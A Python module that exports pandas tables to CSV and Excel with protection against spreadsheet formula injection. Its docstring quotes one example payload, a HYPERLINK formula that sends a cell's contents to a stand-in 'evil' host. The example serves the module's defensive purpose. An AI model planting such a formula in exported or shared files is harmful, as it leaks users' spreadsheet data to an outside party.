"""Tables leaving the app as CSV or Excel files, safe to open in a spreadsheet.

Customer names, products and free-text attributes come from uploaded files, so a cell may hold
``=HYPERLINK("http://evil/?"&A1, "Click")`` or ``@SUM(...)``: a spreadsheet runs it when the
export is opened (CSV/formula injection). Following OWASP, every *text* cell (and header) that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets read as "this is text". Numbers and dates are left alone: ``-5`` stays a number.
The apostrophe is visible in the CSV, which is the price of safety in a format with no types.

Neither file carries the DataFrame index; call ``reset_index()`` first to keep it.
"""

from __future__ import annotations

import io
import re

import pandas as pd
from pandas.api.types import is_string_dtype

# OWASP CSV-injection trigger characters.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Characters Excel forbids in a sheet name; names are at most 31 characters.
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_SHEET_NAME_MAX = 31


def _neutralise_text(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _neutralise_column(column: pd.Series) -> pd.Series:
    """A text column with risky cells prefixed; any other column unchanged."""
    if isinstance(column.dtype, pd.CategoricalDtype):
        # Prefixing categories could collide ("=a" next to "'=a"); plain values cannot.
        column = column.astype(object)
    if not is_string_dtype(column.dtype):  # object and str dtypes only
        return column
    # Element-wise on purpose: an object column may mix text with numbers and dates, and only
    # the text is at risk.
    risky = column.map(
        lambda value: isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
    ).astype(bool)
    if not risky.any():
        return column
    neutralised = column.copy()
    neutralised[risky] = "'" + column[risky].astype(str)
    return neutralised


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` in which text cells and headers that a spreadsheet would run as a
    formula start with an apostrophe.

    In: any DataFrame. Out: same shape, dtypes and index; only text cells starting with one of
    :data:`FORMULA_PREFIXES` change (``"=SUM(A1)"`` -> ``"'=SUM(A1)"``). Numeric, boolean and
    date columns, and non-text values inside object columns, are untouched. Categorical
    columns come back as object columns.
    """
    out = df.copy()
    for position in range(out.shape[1]):
        out.isetitem(position, _neutralise_column(out.iloc[:, position]))
    if isinstance(out.columns, pd.MultiIndex):
        out.columns = pd.MultiIndex.from_tuples(
            [tuple(_neutralise_text(part) for part in key) for key in out.columns],
            names=out.columns.names,
        )
    else:
        out.columns = pd.Index([_neutralise_text(name) for name in out.columns])
    return out


def to_csv_bytes(df: pd.DataFrame, sep: str = ",") -> bytes:
    """``df`` as a neutralised CSV file: UTF-8 with a byte-order mark, CRLF line ends.

    The BOM makes Excel read Cyrillic and other non-Latin text correctly instead of guessing a
    legacy code page. Excel in a Russian locale expects ``;`` as the separator; pass
    ``sep=";"`` for files meant for it.
    """
    text = neutralise_formulas(df).to_csv(index=False, sep=sep, lineterminator="\r\n")
    return text.encode("utf-8-sig")


def _excel_sheet_name(name: str) -> str:
    cleaned = _SHEET_NAME_FORBIDDEN.sub("_", name).strip("'")[:_SHEET_NAME_MAX]
    return cleaned or "data"


def _without_timezones(df: pd.DataFrame) -> pd.DataFrame:
    """Excel has no time zones: keep each timestamp's wall-clock time and drop the zone."""
    out = df
    for position in range(df.shape[1]):
        column = df.iloc[:, position]
        if isinstance(column.dtype, pd.DatetimeTZDtype):
            if out is df:
                out = df.copy()
            out.isetitem(position, column.dt.tz_localize(None))
    return out


def to_xlsx_bytes(df: pd.DataFrame, sheet_name: str = "data") -> bytes:
    """``df`` as a neutralised Excel workbook with one sheet and a header row.

    xlsxwriter's ``strings_to_formulas`` is off so no text becomes a formula, and
    ``strings_to_urls`` is off so uploaded text never becomes a clickable link. NaN is written
    as an empty cell, infinity as the text ``inf``, time-zone-aware timestamps as their local
    wall-clock time. ``sheet_name`` is cleaned of the characters Excel forbids and cut to 31
    characters. Excel holds at most 1,048,576 rows; pandas raises a ValueError beyond that.
    """
    buffer = io.BytesIO()
    options = {"strings_to_formulas": False, "strings_to_urls": False}
    with pd.ExcelWriter(buffer, engine="xlsxwriter", engine_kwargs={"options": options}) as writer:
        _without_timezones(neutralise_formulas(df)).to_excel(
            writer, sheet_name=_excel_sheet_name(sheet_name), index=False
        )
    return buffer.getvalue()
